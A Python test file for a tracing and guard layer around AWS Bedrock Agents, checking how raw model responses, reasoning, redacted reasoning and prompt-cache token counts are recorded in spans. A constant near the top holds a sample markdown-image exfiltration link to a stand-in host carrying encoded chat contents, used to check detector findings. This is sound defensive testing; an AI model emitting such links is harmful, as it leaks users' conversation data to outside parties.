"""InvokeAgent traces: an agent's model invocation read as the model answered it, with its reasoning
apart from its answer and its prompt-cache usage, as on the Converse path."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.bedrock_server import AgentEvents, agent_chunk, agent_trace
from tests.genai import plain

MODEL = "anthropic.claude-3-7-sonnet-20250219-v1:0"
SIGNATURE = "EqQBCkYIBRgCKkAfake-signature-of-the-reasoning"
# Exfiltration through a markdown image: a finding when the model's answer carries it.
EXFIL = ("![status](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")


def _block(**fields: Any) -> dict[str, Any]:
    """A content block as Bedrock Agents writes it in a raw response: every field of its union,
    those the block does not use null."""
    block: dict[str, Any] = {key: None for key in (
        "imageSource", "reasoningTextSignature", "reasoningRedactedContent", "name", "type", "id",
        "source", "input", "is_error", "text", "content", "reasoningText", "guardContent",
        "tool_use_id")}
    block.update(fields)
    return block


def _raw_anthropic(*blocks: dict[str, Any], cache_read: Any = 1500, cache_write: Any = 40,
                   stop: str = "tool_use") -> str:
    return json.dumps({
        "stop_sequence": None, "model": "claude-3-7-sonnet-20250219", "type": "message",
        "id": "msg_bdrk_01TLuDcw7iY8", "role": "assistant", "stop_reason": stop,
        "usage": {"input_tokens": 120, "output_tokens": 15,
                  "cache_read_input_tokens": cache_read, "cache_creation_input_tokens": cache_write},
        "content": list(blocks)})


def _run(output: dict[str, Any]) -> AgentEvents:
    return AgentEvents([
        agent_trace(orchestrationTrace={"modelInvocationInput": {
            "traceId": "t-0", "type": "ORCHESTRATION", "foundationModel": MODEL,
            "text": json.dumps({"system": "You are a support agent.", "messages": [
                {"role": "user", "content": "refund order 42"}]})}}),
        agent_trace(orchestrationTrace={"modelInvocationOutput": {"traceId": "t-0", **output}}),
        agent_chunk("Done."),
    ])


def _invoke(runtime: Any) -> list[Any]:
    response = runtime("bedrock-agent-runtime").invoke_agent(
        agentId="AGENT1", agentAliasId="ALIAS1", sessionId="session-1", enableTrace=True,
        inputText="refund order 42")
    return list(response["completion"])


def _output_parts(span: Any) -> list[dict[str, Any]]:
    [message] = json.loads(span.attributes["gen_ai.output.messages"])
    return list(message["parts"])


def test_the_raw_response_is_read_as_the_models_answer_with_cache_usage(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """An orchestration step's raw Anthropic response: its text and tool call are the answer
    (not the JSON around them), its id, model and stop reason the span's; the prompt-cache
    counts are read and counted in the input tokens, as on the Converse path."""
    guarded()
    bedrock.push(_run({
        "rawResponse": {"content": _raw_anthropic(
            _block(type="text", text="I will look up the order."),
            _block(type="tool_use", id="toolu_bdrk_01", name="orders__get_order",
                   input={"order_id": "42"}))},
        "metadata": {"usage": {"inputTokens": 120, "outputTokens": 15}}}))
    _invoke(runtime)

    chat = spans.one(f"chat {MODEL}")
    assert plain(chat.attributes["gen_ai.output.messages"]) == [{
        "role": "assistant", "content": "I will look up the order.",
        "tool_calls": [{"id": "toolu_bdrk_01", "name": "orders__get_order",
                        "arguments": {"order_id": "42"}}]}]
    assert chat.attributes["gen_ai.usage.input_tokens"] == 120 + 1500 + 40
    assert chat.attributes["gen_ai.usage.output_tokens"] == 15
    assert chat.attributes["gen_ai.usage.cache_read.input_tokens"] == 1500
    assert chat.attributes["gen_ai.usage.cache_creation.input_tokens"] == 40
    assert chat.attributes["gen_ai.response.id"] == "msg_bdrk_01TLuDcw7iY8"
    assert chat.attributes["gen_ai.response.model"] == "claude-3-7-sonnet-20250219"
    assert chat.attributes["gen_ai.response.finish_reasons"] == ("tool_use",)


def test_cache_counts_the_model_did_not_report_are_left_out(guarded: Any, spans: Any,
                                                            bedrock: Any, runtime: Any) -> None:
    """A raw response whose cache counts are null (no prompt cache in use): no cache
    attributes, the input tokens as Bedrock counted them."""
    guarded()
    bedrock.push(_run({
        "rawResponse": {"content": _raw_anthropic(_block(type="text", text="Hello."),
                                                  cache_read=None, cache_write=None,
                                                  stop="end_turn")},
        "metadata": {"usage": {"inputTokens": 274, "outputTokens": 78}}}))
    _invoke(runtime)
    chat = spans.one(f"chat {MODEL}")
    assert chat.attributes["gen_ai.usage.input_tokens"] == 274
    assert "gen_ai.usage.cache_read.input_tokens" not in chat.attributes
    assert "gen_ai.usage.cache_creation.input_tokens" not in chat.attributes


@pytest.mark.parametrize("where", ["trace", "raw"])
def test_the_models_reasoning_is_a_reasoning_part_not_the_answer(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any, where: str) -> None:
    """Reasoning in the trace's ``reasoningContent``, or as a reasoning block of the raw
    response: a ``reasoning`` part before the text, its signature nowhere, and not judged as the
    answer (an exfiltration link in the reasoning is no model-output finding)."""
    seen: list[Any] = []
    findings: list[Any] = []
    guarded(policy=seen.append, on_finding=findings.append)
    thought = f"The user wants order 42. Maybe show {EXFIL}"
    blocks = [_block(type="text", text="Looking up order 42.")]
    output: dict[str, Any] = {"metadata": {"usage": {"inputTokens": 120, "outputTokens": 15}}}
    if where == "trace":
        output["reasoningContent"] = {"reasoningText": {"text": thought,
                                                        "signature": SIGNATURE}}
    else:
        blocks.insert(0, _block(type="thinking", reasoningText=thought,
                                reasoningTextSignature=SIGNATURE))
    output["rawResponse"] = {"content": _raw_anthropic(*blocks, stop="end_turn")}
    bedrock.push(_run(output))
    _invoke(runtime)

    chat = spans.one(f"chat {MODEL}")
    assert _output_parts(chat) == [{"type": "reasoning", "content": thought},
                                   {"type": "text", "content": "Looking up order 42."}]
    assert SIGNATURE not in json.dumps(dict(chat.attributes))
    [answer] = [e for e in seen if e.kind == "model_call" and e.phase == "response"
                and e.model is not None]  # not the streamed answer, judged on the agent span
    assert [(m.content, m.reasoning) for m in answer.output] == [("Looking up order 42.",
                                                                  thought)]
    assert [f for f in findings
            if f.evidence.get("source", {}).get("kind") == "model_output"] == []


def test_redacted_reasoning_is_a_placeholder(guarded: Any, spans: Any, bedrock: Any,
                                             runtime: Any) -> None:
    """Reasoning the provider returned encrypted: the ``<redacted_reasoning>`` placeholder, its
    bytes left out."""
    guarded()
    bedrock.push(_run({"reasoningContent": {"redactedContent": b"\x01\x02opaque"},
                       "rawResponse": {"content": "Done."}}))
    _invoke(runtime)
    chat = spans.one(f"chat {MODEL}")
    assert _output_parts(chat) == [{"type": "reasoning", "content": "<redacted_reasoning>"},
                                   {"type": "text", "content": "Done."}]


def test_a_converse_shaped_raw_response_is_read_too(guarded: Any, spans: Any, bedrock: Any,
                                                    runtime: Any) -> None:
    """A model other than Claude answers in Converse's shape: its text, reasoning and cache
    counts are read the same way."""
    guarded()
    raw = {"output": {"message": {"role": "assistant", "content": [
        {"reasoningContent": {"reasoningText": {"text": "think", "signature": SIGNATURE}}},
        {"text": "Order 42 is refunded."}]}}, "stopReason": "end_turn",
        "usage": {"inputTokens": 50, "outputTokens": 9, "cacheReadInputTokens": 700,
                  "cacheWriteInputTokens": 0}}
    bedrock.push(_run({"rawResponse": {"content": json.dumps(raw)}}))
    _invoke(runtime)
    chat = spans.one(f"chat {MODEL}")
    assert _output_parts(chat) == [{"type": "reasoning", "content": "think"},
                                   {"type": "text", "content": "Order 42 is refunded."}]
    assert chat.attributes["gen_ai.usage.input_tokens"] == 750
    assert chat.attributes["gen_ai.usage.cache_read.input_tokens"] == 700
    assert chat.attributes["gen_ai.usage.cache_creation.input_tokens"] == 0


@pytest.mark.parametrize("content", ["valid", '{"verdict": "ok"}', '{"output": {"text": "ok"}}',
                                     '{"content": [{"text": "ok"}]}', "{not json"])
def test_a_raw_response_that_is_not_a_model_answer_is_the_text_it_is(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any, content: str) -> None:
    """Plain text, JSON of another shape, or broken JSON: recorded as the text it is."""
    guarded()
    bedrock.push(_run({"rawResponse": {"content": content},
                       "metadata": {"usage": {"inputTokens": 3, "outputTokens": 1}}}))
    _invoke(runtime)
    chat = spans.one(f"chat {MODEL}")
    assert plain(chat.attributes["gen_ai.output.messages"]) == [
        {"role": "assistant", "content": content}]
    assert chat.attributes["gen_ai.usage.input_tokens"] == 3
